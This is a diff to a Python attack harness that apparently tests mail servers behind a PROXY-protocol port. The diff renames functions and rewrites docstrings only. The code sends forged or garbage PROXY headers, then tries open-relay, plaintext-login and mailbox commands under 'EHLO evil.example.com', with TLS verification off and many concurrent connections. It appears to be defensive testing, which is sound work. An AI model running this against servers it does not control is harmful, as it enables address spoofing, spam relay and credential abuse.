@@ -1,4 +1,4 @@
-"""What an attacker does who reaches a PROXY port: a header, none, or garbage, then mail commands.
+"""Attacks a PROXY port: sends a header, none, or garbage, then mail commands.
 
 It needs nothing but Python's standard library, so that a pod can run this file as it is: a `Plan`
 on standard input, one `Outcome` in each line of standard output, both as JSON. See `attack`.
@@ -25,7 +25,7 @@ CONCURRENCY = 48  # Postfix serves 50 connections of one client at a time
 KEPT_CHARACTERS = 4000
 RESET_AT_CLOSE = struct.pack("ii", 1, 0)  # SO_LINGER: on, for no time
 
-# The line that ends a greeting or an answer; the first group is there when it is a good one.
+# The line that ends a greeting or an answer; the first group matches if it is positive.
 _GREETING = {
     "smtp": r"^(?:(220)|\d{3}) .*\n",
     "imap": r"^\* (?:(OK|PREAUTH)|BYE|BAD)\b.*\n",
@@ -38,7 +38,7 @@ _ANSWER = _GREETING | {
 }
 
 
-# How a connection ended, by the first kind of exception that fits.
+# How a connection ended, by the first matching exception.
 _ENDS: list[tuple[type[Exception], str]] = [
     (EOFError, "end"),
     (ssl.SSLEOFError, "end"),
@@ -56,11 +56,11 @@ class Attack:
 
     Attributes:
         protocol: `smtp`, `imap`, `pop3` or `sieve`.
-        header: What is sent first of all, in hex, in one write.
-        implicit_tls: TLS follows right behind the header.
-        commands: Lines that are said one after the other, until the server refuses one. After a
-            STARTTLS (STLS) that is granted, TLS begins.
-        reset: End with a RST as soon as the header is sent.
+        header: Sent first, in one write; in hex.
+        implicit_tls: TLS follows directly after the header.
+        commands: Lines that are sent one after the other, until the server rejects one. TLS begins
+            after an accepted STARTTLS (STLS).
+        reset: Reset the connection as soon as the header is sent.
     """
 
     name: str
@@ -78,10 +78,10 @@ class Plan:
     """Many attacks.
 
     Attributes:
-        patience: Seconds for which a silent server may think about a header, until the attacker
-            closes his half: a server that still waits for the rest of it then sees that none comes.
-        timeout: Seconds after which a server that says nothing is given up.
-        together: Nobody hangs up before all have come as far as they can; needs `concurrency`.
+        patience: Seconds to wait for a greeting before the attacker closes its half of the
+            connection: a server that waits for the rest of a header then sees its end.
+        timeout: Seconds to wait for each answer.
+        together: All connections stay open until the last one is done; needs `concurrency`.
     """
 
     attacks: list[Attack]
@@ -93,15 +93,15 @@ class Plan:
 
 @dataclass
 class Outcome:
-    """What came of an attack.
+    """The result of an attack.
 
     Attributes:
-        greeted: The server has greeted: it believes the header, or wants none.
-        granted: How many of the commands were granted, one after the other.
-        succeeded: There were commands, and all of them were granted.
-        received: All that came, in the end without TLS.
+        greeted: The server has greeted: it accepts the header, or expects none.
+        granted: How many of the commands the server accepted.
+        succeeded: There were commands, and all were accepted.
+        received: Everything received, decrypted.
         closed: How it ended: `end` or `reset` by the server, `timeout`, `refused`, `unreachable`,
-            `tls` when none came about, `self` when it was the attacker who hung up.
+            `tls` if there was no handshake, `self` if the attacker closed it.
         seconds: From the attempt to connect until the end.
     """
 
@@ -116,7 +116,7 @@ class Outcome:
 
 
 def attack(plan: Plan, execute: Callable[[list[str], str], str]) -> list[Outcome]:
-    """Let a pod carry out a plan; the outcomes are in the plan's order.
+    """Let a pod run a plan; the outcomes are in the order of the plan.
 
     Args:
         execute: Runs a command with a text as its standard input, and returns its output.
@@ -127,7 +127,7 @@ def attack(plan: Plan, execute: Callable[[list[str], str], str]) -> list[Outcome
 
 
 def relay_commands(sender: str, recipient: str, *, starttls: bool = False) -> list[str]:
-    """Commands that make a server relay mail, if it lets them."""
+    """Commands that make a server relay mail, if it accepts them."""
     hello = "EHLO evil.example.com"
     greetings = [hello, "STARTTLS", hello] if starttls else [hello]
     message = "Subject: relayed\r\n\r\nrelayed\r\n."
@@ -136,7 +136,7 @@ def relay_commands(sender: str, recipient: str, *, starttls: bool = False) -> li
 
 
 def login_commands(protocol: str, user: str, password: str) -> list[str]:
-    """Commands that log in without TLS, if the server lets them."""
+    """Commands that log in without TLS, if the server accepts them."""
     plain = b64encode(f"\0{user}\0{password}".encode()).decode()
     return {
         "smtp": ["EHLO evil.example.com", f"AUTH PLAIN {plain}"],
@@ -147,7 +147,7 @@ def login_commands(protocol: str, user: str, password: str) -> list[str]:
 
 
 def mailbox_commands(protocol: str) -> list[str]:
-    """A command for those who have logged in. Dovecot lets a wrong password wait, but not this."""
+    """A command that needs a login. Dovecot delays the answer to a wrong password, not to this."""
     return {
         "imap": ["a1 SELECT INBOX"],
         "pop3": ["STAT"],
@@ -155,11 +155,11 @@ def mailbox_commands(protocol: str) -> list[str]:
     }[protocol]
 
 
-def carry_out(one: Attack, plan: Plan, meeting: Barrier | None = None) -> Outcome:
-    """One attack, from here; nothing is raised.
+def run_attack(one: Attack, plan: Plan, barrier: Barrier | None = None) -> Outcome:
+    """One attack, from here; raises nothing.
 
     Args:
-        meeting: Of all those who do not hang up before the last one is there.
+        barrier: At which attacks wait for each other before they close their connections.
     """
     outcome = Outcome(one.name, one.port)
     started = time.monotonic()
@@ -167,11 +167,11 @@ def carry_out(one: Attack, plan: Plan, meeting: Barrier | None = None) -> Outcom
         plain = socket.create_connection((one.host, one.port), plan.timeout)
         with closing(_Conversation(plain, one.protocol, outcome)) as conversation:
             try:
-                _play(conversation, one, plan)
+                _converse(conversation, one, plan)
             finally:
-                if meeting:
+                if barrier:
                     with suppress(BrokenBarrierError):
-                        meeting.wait(plan.timeout)
+                        barrier.wait(plan.timeout)
         outcome.closed = "self"
     except (OSError, EOFError) as error:
         outcome.closed = next(word for kind, word in _ENDS if isinstance(error, kind))
@@ -180,8 +180,8 @@ def carry_out(one: Attack, plan: Plan, meeting: Barrier | None = None) -> Outcom
     return outcome
 
 
-def _play(conversation: "_Conversation", one: Attack, plan: Plan) -> None:
-    """What goes over the connection; returns when the attacker hangs up."""
+def _converse(conversation: "_Conversation", one: Attack, plan: Plan) -> None:
+    """Send and receive; returns when the attacker closes the connection."""
     connection = conversation.connection
     connection.sendall(bytes.fromhex(one.header))
     if one.reset:
@@ -190,18 +190,18 @@ def _play(conversation: "_Conversation", one: Attack, plan: Plan) -> None:
     if one.implicit_tls:
         conversation.begin_tls()
     if one.implicit_tls or select.select([connection], [], [], plan.patience)[0]:
-        conversation.speak(one.commands)
+        conversation.send(one.commands)
     if conversation.connection is connection and not plan.together:
         with suppress(OSError):  # a reset may have come before
             connection.shutdown(socket.SHUT_WR)
         if not conversation.outcome.received:  # the greeting may still come
-            conversation.speak([])
+            conversation.send([])
         while True:  # until EOFError
             conversation.receive()
 
 
 class _Conversation:
-    """Text of a mail protocol over a connection; all that comes is noted in `outcome`."""
+    """A mail protocol over a connection; adds to `outcome` what it receives."""
 
     def __init__(self, connection: socket.socket, protocol: str, outcome: Outcome) -> None:
         self.connection = connection
@@ -213,14 +213,14 @@ class _Conversation:
         self.connection.close()
 
     def begin_tls(self) -> None:
-        """Continue over TLS, whoever the server is."""
+        """Continue over TLS, without verification."""
         context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
         context.check_hostname = False
         context.verify_mode = ssl.CERT_NONE
         self.connection = context.wrap_socket(self.connection)
 
-    def speak(self, commands: Sequence[str]) -> None:
-        """Wait for the greeting, then say one command after the other until one is refused."""
+    def send(self, commands: Sequence[str]) -> None:
+        """Wait for the greeting, then send one command after the other until one is rejected."""
         outcome = self.outcome
         outcome.greeted = self._is_good(_GREETING)
         for command in commands if outcome.greeted else ():
@@ -231,11 +231,11 @@ class _Conversation:
             outcome.succeeded = outcome.granted == len(commands)
             if command.split()[-1] in ("STARTTLS", "STLS"):
                 self.begin_tls()
-                if self._protocol == "sieve":  # greets once more (RFC 5804, section 2.2)
+                if self._protocol == "sieve":  # it greets again (RFC 5804, section 2.2)
                     self._is_good(_GREETING)
 
     def _is_good(self, patterns: Mapping[str, str]) -> bool:
-        """Read to the end of a greeting or an answer, and say which kind it is."""
+        """Read a whole greeting or answer, and return whether it is positive."""
         pattern = re.compile(patterns[self._protocol], re.MULTILINE)
         while not (found := pattern.search(self._unread)):
             self.receive()
@@ -243,7 +243,7 @@ class _Conversation:
         return found[1] is not None
 
     def receive(self) -> None:
-        """Wait for more.
+        """Wait for more data.
 
         Raises:
             EOFError: The server has ended the connection.
@@ -257,12 +257,12 @@ class _Conversation:
 
 
 def main() -> None:
-    """Carry out the plan on standard input."""
+    """Run the plan on standard input."""
     asked = json.load(sys.stdin)
     plan = Plan(**asked | {"attacks": [Attack(**one) for one in asked["attacks"]]})
-    meeting = Barrier(len(plan.attacks)) if plan.together else None
+    barrier = Barrier(len(plan.attacks)) if plan.together else None
     with ThreadPoolExecutor(plan.concurrency) as threads:
-        for outcome in threads.map(partial(carry_out, plan=plan, meeting=meeting), plan.attacks):
+        for outcome in threads.map(partial(run_attack, plan=plan, barrier=barrier), plan.attacks):
             print(json.dumps(asdict(outcome)))
 
 
